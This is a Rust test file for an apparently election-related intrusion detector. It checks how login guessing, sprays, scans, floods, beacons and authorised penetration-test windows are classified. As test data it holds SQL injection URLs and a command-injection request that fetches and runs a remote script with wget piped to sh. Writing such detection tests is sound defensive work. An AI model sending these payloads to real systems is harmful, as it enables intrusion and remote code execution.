//! What the judges must say of the people and the attackers that an office knows.

use crate::common::{Act, Did, T0, addr, cases_of, get, judge, judge_with, login, touch};
use ward_kernel::{Rung, Time};
use ward_records::Touch;
use ward_watch::Config;
use ward_watch::config::{Authorised, Window};

#[test]
fn two_typos_page_nobody() {
    let mut acts = Vec::new();
    for day_part in 0..8 {
        let at = day_part * 7_000;
        acts.push(login(at, "192.0.2.10", "clerk01", false));
        acts.push(login(at + 10, "192.0.2.10", "clerk01", false));
        acts.push(login(at + 40, "192.0.2.10", "clerk01", true));
    }
    let report = judge(&acts);
    assert_eq!(report.cases, [], "{:#?}", report.cases);
    assert!(report.sentence.contains("Nobody is seen to have made a real effort"));
}

#[test]
fn a_guess_that_succeeds_is_access() {
    let mut acts: Vec<Act> =
        (0..40).map(|n| login(n * 3, "203.0.113.5", "clerk07", false)).collect();
    acts.push(login(130, "203.0.113.5", "clerk07", true));
    let report = judge(&acts);
    assert_eq!(cases_of(&report, "203.0.113.5"), [("login.guess_then_success", Rung::Access)]);
    assert_eq!(report.highest, Some(Rung::Access));
    assert_eq!(report.cases[0].accounts, ["clerk07"]);
    assert!(report.cases[0].evidence.iter().any(|e| e.shows == "success"));
}

#[test]
fn a_slow_guess_that_succeeds_is_access() {
    let mut acts: Vec<Act> =
        (0..30).map(|n| login(n * 700, "203.0.113.5", "clerk07", false)).collect();
    acts.push(login(21_500, "203.0.113.5", "clerk07", true));
    let kinds = cases_of(&judge(&acts), "203.0.113.5");
    assert_eq!(kinds, [("login.guess_then_success", Rung::Access)]);
}

#[test]
fn an_honest_login_from_the_attackers_address_pages_nobody() {
    let mut acts: Vec<Act> = (0..200)
        .map(|n| login(n * 20, "192.0.2.77", &format!("clerk{:02}", 20 + n % 60), false))
        .collect();
    acts.push(login(1_990, "192.0.2.77", "clerk01", false));
    acts.push(login(2_000, "192.0.2.77", "clerk01", true));
    let report = judge(&acts);
    let kinds = cases_of(&report, "192.0.2.77");
    assert!(matches!(kinds[..], [("login.guess" | "login.spray", Rung::Attempt)]), "{kinds:?}");
    assert!(report.cases[0].because.iter().any(|why| why.contains("look honest")));
}

#[test]
fn a_spray_that_hits_is_access() {
    let mut acts: Vec<Act> = Vec::new();
    // The owner signs in from two places of her own.
    acts.push(login(10, "192.0.2.1", "clerk42", true));
    acts.push(login(50_000, "192.0.2.2", "clerk42", true));
    for n in 0..60 {
        acts.push(login(20_000 + n * 40, "203.0.113.9", &format!("clerk{n:02}"), n == 42));
    }
    let kinds = cases_of(&judge(&acts), "203.0.113.9");
    assert_eq!(kinds, [("login.guess_then_success", Rung::Access)]);
}

#[test]
fn guessing_by_many_sources_is_one_case() {
    let mut acts = Vec::new();
    for n in 0..300_u32 {
        let by = format!("203.0.{}.{}", n / 200, n % 200 + 1);
        acts.push(login(n * 250, &by, &format!("clerk{:02}", n % 5), false));
        if n % 2 == 0 {
            acts.push(login(n * 250 + 9_000, &by, &format!("clerk{:02}", n % 5), false));
        }
    }
    for n in 0..100_u32 {
        acts.push(login(
            n * 700,
            &format!("192.0.2.{}", n % 100 + 1),
            &format!("clerk{n:02}"),
            true,
        ));
    }
    let report = judge(&acts);
    let kinds: Vec<_> = report.cases.iter().map(|c| (c.kind, c.source_count)).collect();
    assert_eq!(kinds, [("login.distributed", 300)], "{kinds:?}");
}

#[test]
fn scans_by_shape() {
    let mut acts = Vec::new();
    for n in 1..60_u32 {
        acts.push(touch(n, "203.0.113.1", &format!("198.51.100.{n}"), 22, Touch::Failed));
        acts.push(touch(
            n,
            "203.0.113.2",
            "198.51.100.10",
            u16::try_from(n).unwrap(),
            Touch::Failed,
        ));
        acts.push(touch(n * 900, "203.0.113.3", &format!("198.51.100.{n}"), 443, Touch::Failed));
        for port in 20..26 {
            acts.push(touch(n, "203.0.113.4", &format!("198.51.100.{n}"), port, Touch::Failed));
        }
        acts.push(touch(n, "203.0.113.6", &format!("198.51.100.{n}"), 40_000, Touch::Aside));
    }
    let report = judge(&acts);
    let kind = |by| cases_of(&report, by).iter().map(|(kind, _)| *kind).collect::<Vec<_>>();
    assert_eq!(kind("203.0.113.1"), ["scan.horizontal"]);
    assert_eq!(kind("203.0.113.2"), ["scan.vertical"]);
    assert_eq!(kind("203.0.113.3"), ["scan.slow"]);
    assert_eq!(kind("203.0.113.4"), ["scan.block"]);
    assert_eq!(kind("203.0.113.6"), [""; 0], "backscatter is never a scan");
    assert_eq!(report.highest, Some(Rung::Scan));
}

#[test]
fn hopping_through_a_v6_network_is_one_scan() {
    let acts: Vec<Act> = (1..40_u32)
        .map(|n| {
            touch(
                n,
                &format!("2001:db8:bad:1::{n:x}"),
                &format!("2001:db8:100::{n:x}"),
                443,
                Touch::Failed,
            )
        })
        .collect();
    let report = judge(&acts);
    assert_eq!(report.cases.len(), 1);
    assert_eq!(report.cases[0].networks[0].to_string(), "2001:db8:bad:1::/64");
    assert_eq!(report.cases[0].source_count, 39);
}

#[test]
fn sources_that_share_out_a_list_are_one_campaign() {
    let ports = [22, 23, 445, 3389, 80];
    let mut acts = Vec::new();
    for job in 0..1_270_u32 {
        let scrambled = job * 631 % 1_270;
        let (host, port) = (scrambled / 5 + 1, ports[(scrambled % 5) as usize]);
        let by = format!("203.0.{}.{}", job % 200 / 100, job % 100 + 1);
        acts.push(touch(job * 4, &by, &format!("198.51.100.{host}"), port, Touch::Failed));
    }
    let report = judge(&acts);
    let kinds: Vec<_> = report.cases.iter().map(|c| (c.kind, c.source_count)).collect();
    assert_eq!(kinds, [("scan.distributed", 200)]);
}

#[test]
fn slow_sql_injection_is_found_on_day_one() {
    let acts: Vec<Act> = (0..600_u32)
        .map(|n| get(n * 120, "203.0.113.8", &format!("/voter/lookup?id={n}%27%20UNION%20SELECT%20NULL,table_name%20FROM%20information_schema.tables--"), 200))
        .collect();
    let report = judge(&acts);
    assert_eq!(cases_of(&report, "203.0.113.8"), [("web.sqli", Rung::Attempt)]);
    assert!(report.cases[0].because.iter().any(|why| why.contains("slow")));
}

#[test]
fn a_flood_is_named_and_a_crowd_is_not() {
    let mut acts = Vec::new();
    for n in 0..20_000_u32 {
        let by = format!("203.0.{}.{}", n % 400 / 200, n % 200 + 1);
        acts.push(get(40_000 + n / 20, &by, &format!("/results?r={}", n * 7), 200));
    }
    for n in 0..3_000_u32 {
        let by = format!("192.0.{}.{}", n / 200, n % 200 + 1);
        for (k, page) in ["/", "/results", "/static/app.css", "/static/seal.png"].iter().enumerate()
        {
            let k = u32::try_from(k).unwrap();
            let did = Did::Get { target: (*page).into(), status: 200, referrer: k > 0 };
            acts.push(Act { at: T0 + 60_000 + n / 5 + k, by: addr(&by), did });
        }
    }
    for n in 0..500_u32 {
        acts.push(get(n * 170, &format!("192.0.2.{}", n % 50 + 200), "/faq", 200));
    }
    let report = judge(&acts);
    let kinds: Vec<_> = report.cases.iter().map(|c| (c.kind, c.source_count)).collect();
    assert_eq!(kinds, [("web.flood", 400)]);
    assert!(report.remarks.iter().any(|remark| remark.contains("A crowd, not a flood")));
}

#[test]
fn a_beacon_is_access() {
    let acts: Vec<Act> = (0..100_u32)
        .map(|n| touch(n * 300 + n % 5, "10.20.0.9", "203.0.113.200", 443, Touch::Answered))
        .collect();
    assert_eq!(cases_of(&judge(&acts), "10.20.0.9"), [("beacon", Rung::Access)]);
}

#[test]
fn a_registered_test_is_labelled_inside_its_window_and_loud_outside() {
    let config = || Config {
        authorised: vec![Authorised {
            owner: "State penetration test".into(),
            networks: vec!["203.0.113.250/32".parse().unwrap()],
            window: Window {
                name: String::new(),
                from: Time::from_secs(i64::from(T0)),
                to: Time::from_secs(i64::from(T0) + 3_600),
            },
        }],
        ..Config::default()
    };
    let acts = |from: u32| -> Vec<Act> {
        (0..30).map(|n| login(from + n, "203.0.113.250", "root", false)).collect()
    };
    let inside = judge_with(config(), &acts(60));
    assert_eq!(inside.highest, None);
    assert_eq!(inside.counts.authorised.cases, 1);
    let outside = judge_with(config(), &acts(9_000));
    assert_eq!(outside.highest, Some(Rung::Attempt));
    assert!(outside.cases[0].because[0].contains("outside its window"));
}

#[test]
fn silence_takes_the_sentence_away() {
    let mut acts: Vec<Act> = (0..600).map(|n| get(n * 60, "192.0.2.1", "/", 200)).collect();
    acts.retain(|act| !(T0 + 7_200..T0 + 20_000).contains(&act.at));
    let report = judge(&acts);
    assert!(report.sentence.contains("cannot be said"), "{}", report.sentence);
    assert!(report.coverage[0].gaps.len() == 1);
    assert!(report.coverage[0].covered < 0.7);
}

#[test]
fn an_exploit_that_worked_and_called_back_is_access() {
    let mut acts =
        vec![get(100, "203.0.113.66", "/cgi-bin/t.cgi?x=;wget%20http://203.0.113.66/x|sh", 200)];
    acts.push(touch(130, "10.20.0.5", "203.0.113.66", 80, Touch::Answered));
    let cases = cases_of(&judge(&acts), "203.0.113.66");
    assert_eq!(cases, [("web.injection", Rung::Access)]);
}

fn sign_in(at: u32, by: &str, status: u16) -> Act {
    Act { at: T0 + at, by: addr(by), did: Did::SignIn { status } }
}

#[test]
fn a_forgotten_password_at_her_own_address_is_no_access() {
    let mut acts: Vec<Act> =
        (0..20).map(|day| login(day * 86_400, "192.0.2.10", "clerk01", true)).collect();
    acts.extend((0..6).map(|n| login(1_800_000 + n * 20, "192.0.2.10", "clerk01", false)));
    acts.push(login(1_800_200, "192.0.2.10", "clerk01", true));
    let report = judge(&acts);
    assert_eq!(report.highest, None, "{:#?}", report.cases);
}

#[test]
fn a_key_never_ends_a_run_of_guesses() {
    let mut acts: Vec<Act> = (0..6).map(|n| login(n * 10, "192.0.2.11", "backup", false)).collect();
    let did = Did::Key { account: "backup".into() };
    acts.push(Act { at: T0 + 100, by: addr("192.0.2.11"), did });
    assert_ne!(judge(&acts).highest, Some(Rung::Access));
}

#[test]
fn a_spray_that_hits_at_the_first_try_is_access() {
    let acts: Vec<Act> =
        (0..40).map(|n| login(n * 20, "203.0.113.9", &format!("clerk{n:02}"), n == 25)).collect();
    let kinds = cases_of(&judge(&acts), "203.0.113.9");
    assert_eq!(kinds, [("login.guess_then_success", Rung::Access)]);
}

#[test]
fn four_guesses_a_day_for_a_month_are_found_when_they_succeed() {
    let mut acts: Vec<Act> =
        (0..120).map(|n| login(n * 21_600, "203.0.113.5", "clerk07", false)).collect();
    acts.push(login(120 * 21_600, "203.0.113.5", "clerk07", true));
    assert_eq!(judge(&acts).highest, Some(Rung::Access));
}

#[test]
fn an_office_that_mistypes_web_passwords_pages_nobody() {
    let acts: Vec<Act> = (0..300)
        .map(|n| sign_in(n * 12, "192.0.2.50", if n % 3 == 0 { 401 } else { 303 }))
        .collect();
    assert_ne!(judge(&acts).highest, Some(Rung::Access));
}

#[test]
fn forms_that_answer_everything_with_200_hide_nobody() {
    let acts: Vec<Act> = (0..400).map(|n| sign_in(n, "203.0.113.30", 200)).collect();
    assert_eq!(cases_of(&judge(&acts), "203.0.113.30"), [("web.stuffing", Rung::Attempt)]);
}

#[test]
fn our_own_calls_into_the_void_are_no_probes() {
    let mut acts = Vec::new();
    for n in 0..40 {
        acts.push(touch(n, "10.20.0.9", &format!("203.0.113.{}", n + 1), 443, Touch::Failed));
        acts.push(touch(n * 600, "10.20.0.8", "10.20.0.255", 17_500, Touch::Failed));
    }
    let report = judge(&acts);
    assert_eq!(report.cases, []);
    assert_eq!(report.counts.by_rung["scan"].records, 0);
}

#[test]
fn newsrooms_that_poll_are_no_flood_and_thousands_that_break_the_site_are() {
    let poll: Vec<Act> = (0..60_u32)
        .flat_map(|desk| {
            let by = format!("192.0.2.{}", desk + 1);
            (0..300).map(move |n| get(n * 5, &by, "/results.json", 200))
        })
        .collect();
    assert_eq!(judge(&poll).cases, []);
    let flood: Vec<Act> = (0..25_000_u32)
        .map(|n| {
            let by = format!("203.{}.{}.9", n % 5_000 / 250, n % 250);
            get(n / 400, &by, "/results", 503)
        })
        .collect();
    assert_eq!(judge(&flood).cases[0].kind, "web.flood");
}

#[test]
fn one_wrong_clock_does_not_spoil_the_page() {
    let mut acts: Vec<Act> = (0..2_000).map(|n| get(n * 40, "192.0.2.1", "/", 200)).collect();
    acts.push(Act { at: 5, ..get(0, "192.0.2.1", "/", 200) });
    let report = judge(&acts);
    assert!(report.cannot_say.is_empty(), "{:?}", report.cannot_say);
    assert!(report.remarks.iter().any(|remark| remark.contains("look at the clock")));
    assert_eq!(report.span.map(|span| span.first.secs()), Some(i64::from(T0)));
}

#[test]
fn a_partner_that_is_called_all_day_is_no_call_back() {
    let mut acts: Vec<Act> = (0..30)
        .map(|n| touch(n * 977 % 9_000, "10.20.0.5", "203.0.113.40", 443, Touch::Answered))
        .collect();
    acts.push(get(
        5_000,
        "203.0.113.40",
        "/search?q=1%27%20UNION%20SELECT%20NULL,x%20FROM%20t--",
        200,
    ));
    assert_eq!(cases_of(&judge(&acts), "203.0.113.40"), [("web.sqli", Rung::Attempt)]);
}

#[test]
fn a_registered_scan_is_in_none_of_the_public_numbers() {
    let config = Config {
        authorised: vec![Authorised {
            owner: "State scanner".into(),
            networks: vec!["203.0.113.250/32".parse().unwrap()],
            window: Window {
                name: String::new(),
                from: Time::from_secs(i64::from(T0)),
                to: Time::from_secs(i64::from(T0) + 3_600),
            },
        }],
        ..Config::default()
    };
    let acts: Vec<Act> = (1..100_u32)
        .map(|n| touch(n, "203.0.113.250", &format!("198.51.100.{n}"), 22, Touch::Failed))
        .collect();
    let report = judge_with(config, &acts);
    assert_eq!(report.counts.authorised.cases, 1);
    let scan = report.counts.by_rung["scan"];
    assert_eq!((scan.sources, scan.records), (0, 0));
}
